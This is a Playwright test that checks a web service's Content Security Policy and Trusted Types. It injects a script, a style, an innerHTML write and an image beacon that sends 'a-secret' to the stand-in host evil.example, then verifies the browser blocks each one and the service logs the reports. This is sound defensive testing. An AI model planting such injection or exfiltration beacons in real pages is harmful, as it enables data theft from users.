import { pageDirectory, pageRoutes } from '../../src/service/http/page.ts'
import { startService } from '../support/service.ts'
import { test as base, expect } from './fixtures.ts'

/** A service whose log the test reads. */
const test = base.extend<{ logged: string[] }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright finds out from the pattern which fixtures are needed
  logged: async ({}, use) => use([]),
  service: async ({ logged }, use) => {
    const service = await startService({
      page: pageRoutes(pageDirectory),
      deps: () => ({ log: ({ message }) => logged.push(message) }),
    })
    await use(service)
    await service.close()
  },
})

test.use({ expected: [/policy: |Content Security Policy|Trusted/] })

test('a script, a style, an image and HTML from nowhere are stopped, and the service logs what the browser reports', async ({
  page,
  logged,
}) => {
  await page.goto('/offers')
  await expect(page.getByRole('heading', { name: 'All offers' })).toBeVisible()
  const stopped = await page.evaluate(() => {
    const script = document.createElement('script')
    try {
      script.text = 'document.title = "stolen"'
    } catch {}
    document.body.append(script)
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
    new Image().src = 'https://evil.example/?a-secret'
    try {
      document.body.innerHTML = '<p>'
    } catch (error) {
      return String(error)
    }
  })
  expect(stopped).toContain('TrustedHTML')
  await expect(page.getByRole('heading', { name: 'All offers' })).toBeVisible()
  await expect(page).not.toHaveTitle('stolen')
  const origin = new URL(page.url()).host
  for (const directive of ['style-src-elem', 'img-src', 'require-trusted-types-for'])
    await expect.poll(() => logged.join('\n')).toContain(`The content policy stopped ${directive} on ${origin}/offers`)
  expect(logged.join()).not.toContain('a-secret')
})
